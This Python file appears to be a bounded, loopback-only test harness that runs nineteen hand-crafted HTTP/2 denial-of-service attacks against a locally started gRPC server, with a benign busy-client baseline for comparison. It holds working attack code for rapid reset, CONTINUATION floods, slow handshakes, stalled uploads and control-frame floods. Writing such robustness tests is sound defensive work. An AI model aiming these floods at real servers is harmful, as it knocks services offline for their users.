# SPDX-License-Identifier: Apache-2.0
"""Attacks on an HTTP/2 server, each bounded in bytes, connections and time. For loopback servers that the caller has started:
Target refuses any other address. Frames are made by hand, because a library would not send what is wrong."""

import contextlib
import socket
import ssl
import struct
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
UNKNOWN = 0x77
END_STREAM, END_HEADERS = 1, 4
SOURCE = "127.0.0.2"  # not the address of the honest client, so that limits per address are seen
SECONDS = 10  # of one attack


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def headers_of(path, more=()):
    """Without compression state, so that the same bytes serve every stream."""
    encoder = hpack.Encoder()
    encoder.header_table_size = 0
    fields = [(":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "x"), ("te", "trailers"),
              ("content-type", "application/grpc"), *more]
    return encoder.encode(fields, huffman=False)


class Target:
    """HOST:PORT on loopback; with `authority` (PEM) over TLS; with `token` (a bearer token) as somebody whom the server knows."""

    def __init__(self, address, authority=None, token=None):
        host, port = address.rsplit(":", 1)
        if not host.startswith("127."):
            raise ValueError(f"{address} is not a loopback address")
        self.address, self.context = (host, int(port)), None
        self.credentials = (("authorization", f"Bearer {token}"),) if token else ()
        if authority:
            self.context = ssl.create_default_context(cadata=authority.decode())
            self.context.set_alpn_protocols(["h2"])

    def connect(self, stack, window=65535, source=SOURCE):
        """A connection that has sent preface and settings, and will never acknowledge any."""
        raw = stack.enter_context(socket.create_connection(self.address, timeout=5, source_address=(source, 0)))
        if self.context:
            raw = stack.enter_context(self.context.wrap_socket(raw, server_hostname="localhost"))
        raw.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)))
        raw.settimeout(1)
        return raw


class Sent:
    """What an attack got rid of."""

    def __init__(self):
        self.bytes = self.connections = 0
        self.end = time.monotonic() + SECONDS

    def send(self, connection, data):
        """False: the server no longer takes it, or the time is up."""
        if time.monotonic() > self.end:
            return False
        try:
            connection.sendall(data)
        except OSError:
            return False
        self.bytes += len(data)
        return True


def connections(target, stack, sent, count, **named):
    for _ in range(count):
        try:
            connection = target.connect(stack, **named)
        except OSError:
            return
        sent.connections += 1
        yield connection


def many_streams(target, sent, scale, path, connection_count, per_connection, end=b""):
    """HEADERS on stream after stream; `end`: frames that follow each, made for stream 1."""
    block = headers_of(path, target.credentials)
    with contextlib.ExitStack() as stack:
        for connection in connections(target, stack, sent, max(1, int(connection_count * scale ** 0.5))):
            for first in range(0, int(per_connection * scale ** 0.5), 100):
                data = b"".join(frame(HEADERS, END_HEADERS, 2 * stream + 1, block) +
                                end[:5] + struct.pack(">I", 2 * stream + 1) + end[9:] if end else
                                frame(HEADERS, END_HEADERS, 2 * stream + 1, block) for stream in range(first, first + 100))
                if not sent.send(connection, data):
                    break
        time.sleep(min(1.0, max(0.0, sent.end - time.monotonic())))  # held open while the server is watched


RST = frame(RESET, 0, 1, struct.pack(">I", 8))


def streams_without_ack(target, sent, scale):
    many_streams(target, sent, scale, "/vicinal.v1.InferenceService/Classify", 1, 40_000)


def rapid_reset_watch(target, sent, scale):
    many_streams(target, sent, scale, "/grpc.health.v1.Health/Watch", 1, 40_000, RST)


def rapid_reset_classify(target, sent, scale):
    many_streams(target, sent, scale, "/vicinal.v1.InferenceService/Classify", 1, 40_000, RST)


def headers_only(target, sent, scale):
    many_streams(target, sent, scale, "/vicinal.v1.InferenceService/Classify", 227, 255)


def headers_only_health(target, sent, scale):
    many_streams(target, sent, scale, "/grpc.health.v1.Health/Check", 227, 255)


def reflection_streams(target, sent, scale):
    many_streams(target, sent, scale, "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo", 20, 255)


def half_messages(target, sent, scale):
    """Messages of 4 MB announced, of which what the windows allow unasked is sent."""
    block = headers_of("/vicinal.v1.InferenceService/Classify", target.credentials)
    start = b"\0" + struct.pack(">I", 4_000_000)
    with contextlib.ExitStack() as stack:
        for connection in connections(target, stack, sent, max(1, int(400 * scale))):
            data = frame(HEADERS, END_HEADERS, 1, block) + frame(DATA, 0, 1, start)
            data += frame(DATA, 0, 1, bytes(16_384)) * 3
            if not sent.send(connection, data):
                continue
        time.sleep(min(1.0, max(0.0, sent.end - time.monotonic())))


def silent_calls(target, sent, scale):
    """Headers and nothing else, from eight addresses, more than the server has places for; held for as long as an attack lasts."""
    block = headers_of("/vicinal.v1.InferenceService/Classify", target.credentials)
    data = b"".join(frame(HEADERS, END_HEADERS, 2 * stream + 1, block) for stream in range(64))
    with contextlib.ExitStack() as stack:
        for last in range(2, 10):
            for connection in connections(target, stack, sent, max(1, int(32 * scale)), source=f"127.0.0.{last}"):
                sent.send(connection, data)
        time.sleep(min(max(1.0, SECONDS * scale), max(0.0, sent.end - time.monotonic())))


def continuation(target, sent, count, size):
    """One header block that does not end: literals of `size` bytes in all, never indexed."""
    payload = (b"\x10\x01a" + bytes([size - 4]) + b"x" * (size - 4)) if size < 100 else b"\x10\x01a" + hpack_length(
        size - 10) + b"x" * (size - 10)
    with contextlib.ExitStack() as stack:
        for connection in connections(target, stack, sent, 1):
            sent.send(connection, frame(HEADERS, 0, 1, headers_of("/vicinal.v1.InferenceService/Classify")))
            batch = max(1, 65536 // size)
            data = frame(CONTINUATION, 0, 1, payload) * batch
            for _ in range(0, count, batch):
                if not sent.send(connection, data):
                    break


def hpack_length(value):
    """An integer with a prefix of 7 bits, no Huffman."""
    if value < 127:
        return bytes([value])
    result, value = bytearray([127]), value - 127
    while value >= 128:
        result.append(value % 128 + 128)
        value //= 128
    result.append(value)
    return bytes(result)


def continuation_flood(target, sent, scale):
    continuation(target, sent, int(17_000 * scale), 16_000)


def small_continuations(target, sent, scale):
    continuation(target, sent, int(200_000 * scale), 10)


def unread_replies(target, sent, scale):
    block = headers_of("/vicinal.v1.ServerService/GetCapabilities", target.credentials)
    call = [frame(HEADERS, END_HEADERS, 1, block), frame(DATA, END_STREAM, 1, bytes(5))]
    with contextlib.ExitStack() as stack:
        for connection in connections(target, stack, sent, max(1, int(20 * scale)), window=0):
            for first in range(0, 2500, 50):
                data = b"".join(part[:5] + struct.pack(">I", 2 * stream + 1) + part[9:]
                                for stream in range(first, first + 50) for part in call)
                if not sent.send(connection, data):
                    break
        time.sleep(min(1.0, max(0.0, sent.end - time.monotonic())))


def metadata(target, sent, scale, more):
    block = headers_of("/grpc.health.v1.Health/Check", more)
    with contextlib.ExitStack() as stack:
        for connection in connections(target, stack, sent, max(1, int(50 * scale))):
            sent.send(connection, frame(HEADERS, END_HEADERS, 1, block) + frame(DATA, END_STREAM, 1, bytes(5)))


def bad_binary_metadata(target, sent, scale):
    metadata(target, sent, scale, (("odd-bin", "!!!not base64!!!"),))


def large_metadata(target, sent, scale):
    metadata(target, sent, scale, (("large", "x" * 9000),))


def idle_connections(target, sent, scale):
    with contextlib.ExitStack() as stack:
        for _ in connections(target, stack, sent, int(400 * scale)):
            if time.monotonic() > sent.end:
                break
        time.sleep(min(1.0, max(0.0, sent.end - time.monotonic())))


def control_frames(target, sent, scale):
    """Frames that want an answer or change a state, one kind on each connection, and nothing is read."""
    kinds = [frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)), frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 2 ** 31 - 1)), frame(PING, 0, 0, bytes(8)),
             frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1)), frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)), frame(WINDOW_UPDATE, 0, 0, bytes(4)),
             frame(GOAWAY, 0, 0, bytes(8)), frame(UNKNOWN, 255, 0, bytes(1000))]
    with contextlib.ExitStack() as stack:
        for index, connection in enumerate(connections(target, stack, sent, max(len(kinds), int(32 * scale)))):
            data = kinds[index % len(kinds)] * 500
            for _ in range(max(1, int(100 * scale))):
                if not sent.send(connection, data):
                    break


def reset_answers(target, sent, scale):
    """Whole calls, each reset as soon as it is sent."""
    block = headers_of("/vicinal.v1.ServerService/GetCapabilities", target.credentials)
    with contextlib.ExitStack() as stack:
        for connection in connections(target, stack, sent, 4):
            for first in range(0, int(40_000 * scale), 100):
                data = b"".join(part[:5] + struct.pack(">I", 2 * stream + 1) + part[9:] for stream in range(first, first + 100)
                                for part in (frame(HEADERS, END_HEADERS, 1, block), frame(DATA, END_STREAM, 1, bytes(5)), RST))
                if not sent.send(connection, data):
                    break


def large_trailers(target, sent, scale):
    """Uploads that end in metadata of 15 KB instead of a message, in more than one frame."""
    block = headers_of("/vicinal.v1.GraphService/UploadGraph", target.credentials)
    trailers = hpack.Encoder().encode([(f"x{i}", "y" * 300) for i in range(50)], huffman=False)
    calls = [frame(HEADERS, END_HEADERS, 1, block), frame(HEADERS, END_STREAM, 1, trailers[:8000]), frame(CONTINUATION, END_HEADERS, 1, trailers[8000:])]
    with contextlib.ExitStack() as stack:
        for connection in connections(target, stack, sent, 8):
            for stream in range(int(200 * scale) + 1):
                if not sent.send(connection, b"".join(part[:5] + struct.pack(">I", 2 * stream + 1) + part[9:] for part in calls)):
                    break
        time.sleep(min(1.0, max(0.0, sent.end - time.monotonic())))


def stalled_uploads(target, sent, scale):
    """The beginning of a chunk on each of many streams, and no more of it."""
    block = headers_of("/vicinal.v1.GraphService/UploadGraph", target.credentials)
    start = frame(DATA, 0, 1, b"\0" + struct.pack(">I", 4_000_000) + bytes(900))
    with contextlib.ExitStack() as stack:
        for connection in connections(target, stack, sent, max(1, int(30 * scale))):
            sent.send(connection, b"".join(part[:5] + struct.pack(">I", 2 * stream + 1) + part[9:]
                                           for stream in range(60) for part in (frame(HEADERS, END_HEADERS, 1, block), start)))
        time.sleep(min(max(1.0, SECONDS * scale), max(0.0, sent.end - time.monotonic())))


def slow_beginnings(target, sent, scale):
    """Connections whose handshake, or else preface, comes byte by byte."""
    with contextlib.ExitStack() as stack:
        slow = []
        for _ in range(int(400 * scale)):
            with contextlib.suppress(OSError):
                slow.append(stack.enter_context(socket.create_connection(target.address, timeout=1, source_address=(SOURCE, 0))))
                sent.connections += 1
        words = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" if target.context else PREFACE
        for byte in words:
            for connection in slow:
                sent.send(connection, bytes([byte]))
            time.sleep(min(0.5 * scale, max(0.0, sent.end - time.monotonic())))


def busy_client(target, sent, scale):
    """No attack: what a client that is busy does to others, to compare with. 64 calls at once, their answers read, then the next 64."""
    block = headers_of("/vicinal.v1.ServerService/GetCapabilities", target.credentials)
    with contextlib.ExitStack() as stack:
        for connection in connections(target, stack, sent, 1, window=2 ** 20):
            reader = connection.makefile("rb")
            for first in range(0, int(6400 * scale), 64):
                if not sent.send(connection, b"".join(frame(HEADERS, END_HEADERS, 2 * stream + 1, block) +
                                                      frame(DATA, END_STREAM, 2 * stream + 1, bytes(5)) for stream in range(first, first + 64))):
                    return
                if not read_answers(connection, reader, 64):
                    return


def read_answers(connection, reader, count):
    """Reads until so many streams have ended, and gives back what their data took of the connection's window. False: it was closed."""
    while count > 0:
        header = reader.read(9)
        if len(header) < 9:
            return False
        length, kind, flags = int.from_bytes(header[:3], "big"), header[3], header[4]
        reader.read(length)
        if kind == DATA and length > 0:
            connection.sendall(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", length)))
        count -= kind == RESET or kind in (DATA, HEADERS) and bool(flags & END_STREAM)
    return True


ATTACKS = (streams_without_ack, rapid_reset_watch, rapid_reset_classify, headers_only, headers_only_health, reflection_streams,
           half_messages, silent_calls, continuation_flood, small_continuations, unread_replies, bad_binary_metadata, large_metadata,
           idle_connections, control_frames, reset_answers, large_trailers, stalled_uploads, slow_beginnings)
COMPARISONS = (busy_client,)
